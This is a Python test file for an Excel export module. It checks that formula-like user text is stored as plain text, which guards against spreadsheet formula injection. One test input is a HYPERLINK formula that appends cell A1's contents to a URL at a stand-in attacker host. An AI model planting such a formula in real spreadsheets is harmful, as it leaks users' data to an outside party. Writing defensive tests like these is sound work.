"""One rule for Excel cells (plans/excel.py): free text is written as text, never a formula,
and shown exactly as typed, in every exporter."""

from io import BytesIO

import pytest
import tablib
from openpyxl import Workbook, load_workbook

from plans.excel import TextXLSX, append_row, workbook_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


def _reload(content: bytes):
    return load_workbook(BytesIO(content)).active


@pytest.mark.parametrize("text", [HYPERLINK, "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "=1", "ปกติ"])
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    book = Workbook()
    append_row(book.active, [text, 12, None])
    cell = _reload(workbook_bytes(book))["A1"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert _reload(workbook_bytes(book))["B1"].value == 12


def test_a_carriage_return_first_is_text_too():
    book = Workbook()
    (cell,) = append_row(book.active, ["\r=1+1"])
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_characters_an_xlsx_cannot_hold_do_not_break_the_export():
    book = Workbook()
    append_row(book.active, ["ก\x01ข"])
    assert _reload(workbook_bytes(book))["A1"].value == "ก\N{REPLACEMENT CHARACTER}ข"


def test_the_admin_export_format_writes_text_as_text():
    dataset = tablib.Dataset(headers=["code", "name"])
    dataset.append(["s1", HYPERLINK])
    sheet = _reload(TextXLSX().export_data(dataset))
    assert [c.value for c in sheet[1]] == ["code", "name"]
    assert sheet["B2"].value == HYPERLINK and sheet["B2"].data_type == "s"


def test_the_admin_exports_only_the_safe_excel_format(settings):
    (only,) = settings.EXPORT_FORMATS
    assert only is TextXLSX
